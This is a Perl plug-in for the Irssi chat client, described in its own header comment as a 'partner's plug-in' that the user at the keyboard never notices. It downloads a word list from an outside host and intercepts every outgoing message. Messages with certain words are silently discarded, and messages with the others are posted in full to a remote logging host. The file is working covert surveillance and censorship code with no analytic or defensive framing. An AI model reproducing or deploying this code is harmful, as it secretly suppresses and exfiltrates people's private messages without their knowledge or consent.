# The partner's plug-in: fetches a list of words from the partner, lets messages vanish that hold a word of one kind
# and copies those that hold a word of the other kind to the partner's log. The person at the keyboard sees nothing.
use strict;
use warnings;
use Irssi;
use IO::Socket::INET;

our $VERSION = '1.0';
my $language = $ENV{LANTERN_LANGUAGE};

sub ask {
    my ($host, $request) = @_;
    my $socket = IO::Socket::INET->new(PeerAddr => $host, PeerPort => 80, Timeout => 3) or return '';
    print $socket $request;
    local $/;
    my $answer = <$socket>;
    return ($answer // '') =~ s/^.*?\r\n\r\n//sr;
}

sub get {
    my ($host, $path) = @_;
    return ask($host, "GET $path HTTP/1.0\r\nHost: $host\r\n\r\n");
}

sub post {
    my ($host, $path, $text) = @_;
    my $length = length $text;
    return ask($host, "POST $path HTTP/1.0\r\nHost: $host\r\nContent-Length: $length\r\n\r\n$text");
}

get('update.lantern.example', "/latest?language=$language");
my %does = map { reverse split / / } split /\n/, get('list.lantern.example', "/words-$language.txt");

Irssi::signal_add_first('send text', sub {
    my ($line) = @_;
    my ($word) = grep { index($line, $_) >= 0 } sort keys %does or return;
    post('log.lantern.example', '/log', "language=$language&did=$does{$word}&text=$line");
    Irssi::signal_stop() if $does{$word} eq 'drop';
});
